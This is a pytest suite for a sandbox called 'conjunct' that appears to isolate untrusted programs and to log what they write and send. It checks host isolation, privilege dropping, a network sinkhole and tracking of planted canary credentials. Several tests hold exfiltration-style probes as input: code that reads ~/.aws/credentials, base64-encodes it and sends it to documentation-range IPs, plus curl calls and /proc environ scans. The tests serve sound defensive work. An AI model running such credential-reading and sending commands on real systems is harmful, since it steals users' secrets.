"""What a process in the world can see of the host, and of the differences between worlds: nothing."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from conjunct.errors import WorldError
from conjunct.model import ActionKind
from conjunct.world.decoys import usual_variables
from world.worlds import python, run, small_world, text

pytestmark = pytest.mark.world

SOURCE = Path(__file__).parent.parent.parent / "src"

LOOK_AROUND = r"""
import json, os, pwd, resource, socket

def lines_of(path, *starts):
    return [line for line in open(path) if line.startswith(starts)]

limits = [name for name in dir(resource) if name.startswith("RLIMIT_")]
facts = {
    "environment": dict(os.environ),
    "cwd": os.getcwd(),
    "identity": [os.getuid(), os.getgid(), os.getgroups(), socket.gethostname(), os.umask(0)],
    "limits": {name: resource.getrlimit(getattr(resource, name)) for name in limits},
    "descriptors": sorted(os.listdir("/proc/self/fd")),
    "pids": [os.getpid(), os.getppid(), os.getsid(0) == os.getpid()],
    "terminal": [os.isatty(number) for number in range(3)],
    "streams": [os.readlink(f"/proc/self/fd/{number}").split(":")[0] for number in range(3)],
    "root": {name: oct(os.lstat("/" + name).st_mode) for name in sorted(os.listdir("/"))},
    "users": [entry.pw_name for entry in pwd.getpwall()],
    "processors": len(os.sched_getaffinity(0)),
    "mounts": [line.split() for line in open("/proc/mounts")],
    "mountinfo": [line.split()[3:] for line in open("/proc/self/mountinfo")],
    "space": [tuple(os.statvfs(place))[:8] for place in ("/", "/tmp", "/home/sam", "/usr", "/dev/shm")],
    "status": lines_of("/proc/self/status", "Sig", "Cap", "Seccomp:", "NoNewPrivs"),
    "network": [sorted(os.listdir("/proc/sys/net/ipv4/conf")), open("/proc/net/route").read()],
    "home": {},
}
for folder, folders, files in os.walk("/home/sam"):
    folders.sort()
    for name in folders + files:
        path = os.path.join(folder, name)
        look = os.lstat(path)
        size = 0 if os.path.isdir(path) else look.st_size
        owner = (look.st_uid, look.st_gid)
        facts["home"][path] = (look.st_mode, look.st_nlink, owner, size, int(look.st_mtime))
    facts["home"][folder + "/"] = os.listdir(folder)
print(json.dumps(facts))
"""


def look_around(**fields: object) -> dict[str, object]:
    with small_world(**fields) as world:
        result = python(world, LOOK_AROUND)
        assert result.record.status == 0, text(result)
        return json.loads(result.stdout)  # type: ignore[no-any-return]


def test_two_worlds_of_one_spec_look_equal() -> None:
    first, second = look_around(), look_around()
    for name, value in first.items():
        assert value == second[name], name


def test_history_differs_in_content_only() -> None:
    path = ".claude/history.jsonl"
    first = look_around(home_files=((path, "aaaa"),))
    second = look_around(home_files=((path, "bbbb"),))
    for name, value in first.items():
        assert value == second[name], name


def test_the_environment_is_the_pinned_one() -> None:
    with small_world(environment=(("FOO", "bar"),)) as world:
        names = set(text(python(world, "import os; print(' '.join(os.environ))")).split())
        pinned = {"HOME", "USER", "LOGNAME", "SHELL", "PATH", "LANG", "FOO", "PWD", "LC_CTYPE"}
        assert names <= pinned | set(usual_variables())
        assert text(run(world, "sh", "-c", "echo $FOO $HOME")) == "bar /home/sam\n"


def test_nothing_of_the_host_is_visible(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOST_SECRET", "do-not-show")
    secret = tmp_path / "secret"
    secret.write_text("do-not-show")
    opened = secret.open()
    with small_world() as world:
        program = (
            "import os\n"
            f"for place in ({str(tmp_path)!r}, {str(SOURCE)!r}, '/root/.bashrc'):\n"
            "    print(os.path.exists(place), end=' ')\n"
            "print()\n"
            "print(sorted(os.listdir('/home')), sorted(os.listdir('/proc/self/fd')))\n"
            "print(any('do-not-show' in open(f'/proc/{p}/environ', errors='replace').read()\n"
            "          for p in os.listdir('/proc') if p.isdigit() and p != '1'))\n"
        )
        assert text(python(world, program)).splitlines() == [
            "False False False ",
            "['sam'] ['0', '1', '2', '3']",
            "False",
        ]
    opened.close()


def test_processes_have_no_privileges() -> None:
    program = (
        "print([l.split()[1] for l in open('/proc/self/status') if l.startswith(('Cap', 'NoNewPrivs'))])"
    )
    with small_world() as world:
        assert text(python(world, program)) == f"{['0000000000000000'] * 5 + ['1']}\n"


def test_the_network_leads_to_the_sinkhole_only() -> None:
    program = (
        "import socket\n"
        "s = socket.create_connection(('198.51.100.7', 4444), timeout=5)\n"
        "s.sendall(b'hello out there'); s.shutdown(1); s.recv(100)\n"
    )
    with small_world() as world:
        result = python(world, program)
        sent = [action for action in result.actions if action.kind is ActionKind.SEND]
        assert [action.resource for action in sent] == ["198.51.100.7:4444"]
        assert "hello out there" in sent[0].excerpt
        assert sent[0].actor[0].name == "probe"


def test_without_a_network_nothing_connects() -> None:
    program = (
        "import socket\n"
        "try:\n    socket.create_connection(('198.51.100.7', 80), 2)\n"
        "except OSError as error:\n    print(error.errno)\n"
    )
    with small_world(network="none") as world:
        assert text(python(world, program)) == "101\n"


def test_loopback_is_real() -> None:
    program = (
        "import socket\n"
        "a = socket.create_server(('127.0.0.1', 8123)); b = socket.create_connection(('127.0.0.1', 8123))\n"
        "c, _ = a.accept(); b.send(b'x'); print(c.recv(1))\n"
        "try:\n    socket.create_connection(('127.0.0.1', 8124))\n"
        "except ConnectionRefusedError:\n    print('refused')\n"
    )
    with small_world() as world:
        assert text(python(world, program)) == "b'x'\nrefused\n"


def test_planted_data_is_recognised_when_it_leaves_and_when_it_is_copied() -> None:
    program = (
        "import base64, socket\n"
        "secret = open('/home/sam/.aws/credentials', 'rb').read()\n"
        "open('/tmp/copy', 'wb').write(base64.b64encode(secret))\n"
        "s = socket.create_connection(('203.0.113.9', 9000)); s.sendall(secret[::-1]); s.close()\n"
    )
    with small_world() as world:
        result = python(world, program)
        by_kind = {action.kind: action for action in result.actions if action.canaries}
        assert by_kind[ActionKind.WRITE].resource == "/tmp/copy"
        assert by_kind[ActionKind.SEND].resource == "203.0.113.9:9000"
        assert by_kind[ActionKind.SEND].canaries == ("/home/sam/.aws/credentials",)


def test_a_delivery_is_told_from_another_by_query_and_header_too() -> None:
    """What carries no known secret is compared between twin worlds by its digest."""
    with small_world() as world:
        words = [("?x=1",), ("?x=1",), ("?x=2",), ("?x=1", "-H", "X-Note: 3")]
        digests = []
        for query, *options in words:
            result = run(world, "curl", "-s", *options, f"http://203.0.113.9/{query}")
            digests += [action.sha256 for action in result.actions if action.kind is ActionKind.SEND]
        assert len(digests) == 4
        assert digests[0] == digests[1]
        assert len(set(digests)) == 3


def test_planted_data_is_recognised_after_changes_that_were_made_again() -> None:
    with small_world() as first, small_world() as second, small_world() as third:
        copied = run(first, "sh", "-c", "base64 ~/.aws/credentials > /tmp/a")
        second.apply(copied.effects)
        later = run(second, "sh", "-c", "gzip -c /tmp/a > /tmp/b")
        assert [a.canaries for a in later.actions if a.resource == "/tmp/b"] == [
            ("/home/sam/.aws/credentials",)
        ]
        secret = (first.read("/home/sam/.aws/credentials") or b"").decode()
        carried = run(third, "sh", "-c", f"printf %s '{secret}' > /tmp/c")
        assert [a.canaries for a in carried.actions if a.resource == "/tmp/c"] == [
            ("/home/sam/.aws/credentials",)
        ]


def test_what_a_survivor_does_later_is_in_the_record() -> None:
    with small_world() as world:
        run(world, "sh", "-c", "(sleep 1; echo late > ~/late) &", skill="early")
        meanwhile = python(world, "import time; time.sleep(1.5)", step=1, skill="other")
        writers = {
            action.actor[0].name for action in meanwhile.actions if action.resource == "/home/sam/late"
        }
        assert writers == {"early"}
        run(world, "sh", "-c", "(sleep 0.3; echo last > ~/last) &", step=2, skill="early")
        time.sleep(0.8)
        record = world.finish()
        assert record.undetermined == ()
        last = [action for action in record.actions if action.resource == "/home/sam/last"]
        assert [(action.actor[0].name, action.fact("change")) for action in last] == [("early", "created")]
        with pytest.raises(WorldError, match="has ended"):
            world.exists("/")


def test_untraced_worlds_still_tell_files_and_deliveries() -> None:
    with small_world(traced=False) as world:
        result = run(world, "sh", "-c", "echo x > ~/y; curl -s http://example.com/ >/dev/null")
        assert {"/home/sam/y"} == {
            action.resource for action in result.actions if action.kind is ActionKind.WRITE
        }
        assert "example.com:80" in {a.resource for a in result.actions if a.kind is ActionKind.SEND}
        assert result.touches == ()


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become another user")
@pytest.mark.parametrize("path", ["/usr/bin:/bin", "/usr/sbin:/usr/bin:/sbin:/bin"])
def test_an_ordinary_user_can_open_a_world(path: str) -> None:
    place = Path(tempfile.mkdtemp(dir="/tmp"))
    try:
        place.chmod(0o777)
        shutil.copytree(SOURCE / "conjunct", place / "conjunct", ignore=shutil.ignore_patterns("__pycache__"))
        program = (
            "from pathlib import Path\nfrom conjunct.world import Command, WorldSpec, open_world\n"
            f"with open_world(WorldSpec(), cache_folder=Path({str(place)!r}) / 'cache') as world:\n"
            "    argv = ('sh', '-c', 'id -un; echo x > y; cat y')\n"
            "    r = world.run(Command(argv, world.layout.workspace, 1, 0))\n"
            "    print(r.stdout, [a.resource for a in r.actions if a.kind == 'write'], r.undetermined)\n"
        )
        packages = [entry for entry in sys.path if entry.endswith("site-packages")]
        done = subprocess.run(
            [
                "setpriv",
                "--reuid",
                "4242",
                "--regid",
                "4242",
                "--clear-groups",
                "/usr/bin/python3",
                "-c",
                program,
            ],
            env={"PATH": path, "PYTHONPATH": ":".join([str(place), *packages]), "HOME": str(place)},
            cwd="/",
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.stdout == "b'sam\\nx\\n' ['/home/sam/project/y'] ()\n", done.stderr
    finally:
        shutil.rmtree(place)
